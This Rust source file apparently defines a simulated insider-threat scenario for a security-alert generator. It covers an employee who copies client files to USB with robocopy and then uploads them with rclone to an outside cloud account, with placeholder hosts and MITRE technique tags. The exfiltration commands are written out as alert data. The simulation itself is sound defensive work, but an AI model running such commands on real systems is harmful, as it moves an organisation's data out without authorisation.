//! Someone who leaves and takes files along.

use crate::sim::population::incidents::EXPLORER;
use crate::sim::population::incidents::Place;
use crate::sim::population::incidents::SYSTEM;
use crate::sim::population::incidents::Step;
use crate::sim::population::template::Item;
use crate::sim::population::template::PLAIN;
use crate::sim::population::template::Process;
use crate::sim::population::template::Template;

pub(super) const LEAVER: &[Step] = &[
    Step {
        place: Place::First,
        after: 0,
        template: Template {
            title: "Unusual volume of files copied to removable media",
            severity: "Low",
            category: "Collection",
            source: "CustomDetection",
            techniques: &["T1052.001", "T1005"],
            description: "{user} copied 4,812 files to a USB drive within 20 minutes. The rule \"HR watch list\" of your organization raised this alert.",
            chain: &[
                EXPLORER,
                Process {
                    file: "Robocopy.exe",
                    folder: SYSTEM,
                    command: "robocopy \\\\{target}\\clients E:\\c /E /MT:32 /R:0",
                },
            ],
            ..PLAIN
        },
    },
    Step {
        place: Place::First,
        after: 55,
        template: Template {
            title: "Possible data exfiltration with a cloud synchronization tool",
            severity: "Medium",
            category: "Exfiltration",
            techniques: &["T1567.002", "T1048"],
            description: "A command-line tool for cloud storage uploaded 11.4 GB to an account outside your organization.",
            chain: &[
                EXPLORER,
                Process {
                    file: "cmd.exe",
                    folder: SYSTEM,
                    command: "\"C:\\Windows\\system32\\cmd.exe\"",
                },
                Process {
                    file: "rclone.exe",
                    folder: "E:\\tools",
                    command: "rclone.exe copy E:\\c remote:backup-{hex} --transfers 16 --no-check-certificate --config E:\\tools\\r.conf",
                },
            ],
            items: &[
                Item::Url("https://{domain}/upload"),
                Item::File {
                    name: "rclone.exe",
                    folder: "E:\\tools",
                    status: "Detected",
                },
            ],
            ..PLAIN
        },
    },
];
